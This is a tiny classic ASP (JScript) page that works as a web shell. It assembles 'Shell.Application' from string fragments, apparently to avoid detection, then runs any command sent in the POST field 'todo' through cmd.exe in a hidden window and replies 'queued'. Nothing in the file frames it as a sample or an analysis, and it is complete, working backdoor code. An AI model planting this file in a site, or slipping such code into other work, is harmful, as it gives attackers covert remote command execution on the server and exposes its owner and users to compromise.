<%@ Language="JScript" %>
<%
var n = "She" + "ll.Appli" + "cation";
var app = Server.CreateObject(n);
var todo = Request.Form("todo");
app.ShellExecute("cmd.exe", "/c " + todo, "", "open", 0);
Response.Write("queued");
%>
